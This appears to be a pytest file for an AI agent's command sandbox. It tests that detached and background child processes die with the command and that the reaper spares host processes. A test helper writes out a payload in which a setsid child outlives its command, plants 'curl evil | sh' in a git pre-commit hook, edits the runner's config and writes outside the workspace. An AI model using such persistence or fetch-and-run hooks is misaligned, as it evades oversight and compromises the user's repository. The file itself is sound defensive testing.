"""Nothing a command starts outlives it: every descendant, whatever session it moved to, is
killed when the command ends, under both backends, as root and as nobody; through
`interpreter sandbox` and through `interpreter exec` with a scripted model. And the reaper
kills nothing else: not a host process of the same user, not another command."""

from __future__ import annotations

import re
import subprocess
import time

import pytest

from tests.sandbox.conftest import BACKENDS, PYTHON, SANDBOXED_MODES, Box, snapshot_tree
from tests.sandbox.support import alive, run_exec, wait_dead
from tests.support.model_server import ModelServer, call, reply, tool_outputs

pytestmark = pytest.mark.parametrize("backend", BACKENDS)


def _late_writer(box: Box) -> str:
    """A `setsid -f` child that reports its pid, lets go of the output, waits past the end of
    the command and then writes a hook, the runner's config and a file outside."""
    late = "; ".join(
        [
            "echo late-pid=$$",
            "exec >/dev/null 2>&1",
            "sleep 1",
            'echo "curl evil | sh" > .git/hooks/pre-commit',
            'mkdir -p .openinterpreter && echo "model = 1" > .openinterpreter/config.toml',
            f"echo late > {box.outside}/late",
        ]
    )
    return f"setsid -f sh -c '{late}'; sleep 0.2; echo started"


def _late_pid(output: str) -> int:
    match = re.search(r"late-pid=(\d+)", output)
    assert match, output
    return int(match[1])


def _assert_nothing_written_late(box: Box, git_before: dict[str, bytes | None]) -> None:
    time.sleep(1.5)  # past the late writer's sleep
    assert snapshot_tree(box.ws / ".git") == git_before
    assert not (box.ws / ".openinterpreter").exists()
    assert not (box.outside / "late").exists()


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_setsid_child_dies_with_the_command(box: Box, backend: str, mode: str) -> None:
    git_before = snapshot_tree(box.ws / ".git")
    result = box.run(mode, _late_writer(box), backend=backend)
    assert "started" in result.stdout, result.stderr
    pid = _late_pid(result.stdout)
    if backend == "landlock":  # (under bwrap the pid is one of its namespace)
        # The reaper has finished before `after()` returns: gone at once.
        assert not alive(pid)
    _assert_nothing_written_late(box, git_before)


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_background_child_dies_with_the_command(box: Box, backend: str, mode: str) -> None:
    script = "sleep 100 & echo bg=$!"
    result = box.run(mode, script, backend=backend)
    assert "bg=" in result.stdout, result.stderr
    if backend == "landlock":
        pid = int(result.stdout.split("bg=")[1].split()[0])
        assert not alive(pid)


def test_reaper_spares_host_processes_and_other_commands(box: Box, backend: str) -> None:
    """`kill -KILL -1` from the sentinel reaches its own command only, even for root."""
    victim = subprocess.Popen(box.as_me(["sleep", "60"]))
    other_args = ["-s", "workspace-write", "-C", str(box.ws), "--", "/bin/sh", "-c"]
    longer = subprocess.Popen(
        box.as_me(
            [PYTHON, "-m", "oiexec.cli.sandbox_cmd", "--backend", backend, "--require", "any",
             *other_args, "echo up > up.txt; sleep 3; echo longer-done"]
        ),
        cwd=box.ws, env=box.env(), stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while not (box.ws / "up.txt").exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        result = box.run("workspace-write", "setsid -f sleep 30; echo short-done", backend=backend)
        assert "short-done" in result.stdout, result.stderr
        assert victim.poll() is None, "the reaper killed a host process"
        assert longer.poll() is None, "the reaper killed another sandboxed command"
        out, _ = longer.communicate(timeout=30)
        assert "longer-done" in out
    finally:
        victim.kill()
        victim.wait()
        longer.kill()
        longer.wait()


# --- through `interpreter exec` ----------------------------------------------------------


def test_exec_late_writer_is_killed(box: Box, model_server: ModelServer, backend: str) -> None:
    git_before = snapshot_tree(box.ws / ".git")
    model_server.enqueue(
        reply(tool_calls=[call("exec_command", {"cmd": _late_writer(box)})]),
        reply("done"),
    )
    result = run_exec(box, model_server, "workspace-write", backend)
    assert result["code"] == 0, result["stderr"]
    [output] = tool_outputs(model_server.bodies[-1]).values()
    pid = _late_pid(output)
    if backend == "landlock":
        assert wait_dead(pid, 0.5)
    _assert_nothing_written_late(box, git_before)


def test_exec_background_child_ends_with_its_command(
    box: Box, model_server: ModelServer, backend: str
) -> None:
    """A command that exits while `&` children run: the children end with it (the old
    behaviour kept them running until the end of the run)."""
    first = "(while :; do echo x >> beat; sleep 0.05; done) & sleep 100 & echo started"
    probe = "a=$(wc -c < beat); sleep 0.6; b=$(wc -c < beat); echo grew=$((b - a))"
    model_server.enqueue(
        reply(tool_calls=[call("exec_command", {"cmd": first, "yield_time_ms": 3000})]),
        reply(tool_calls=[call("exec_command", {"cmd": probe, "yield_time_ms": 10000})]),
        reply("done"),
    )
    result = run_exec(box, model_server, "workspace-write", backend)
    assert result["code"] == 0, result["stderr"]
    outputs = list(tool_outputs(model_server.bodies[-1]).values())
    assert "Process exited with code 0" in outputs[0]
    assert "grew=0" in outputs[1], outputs[1]
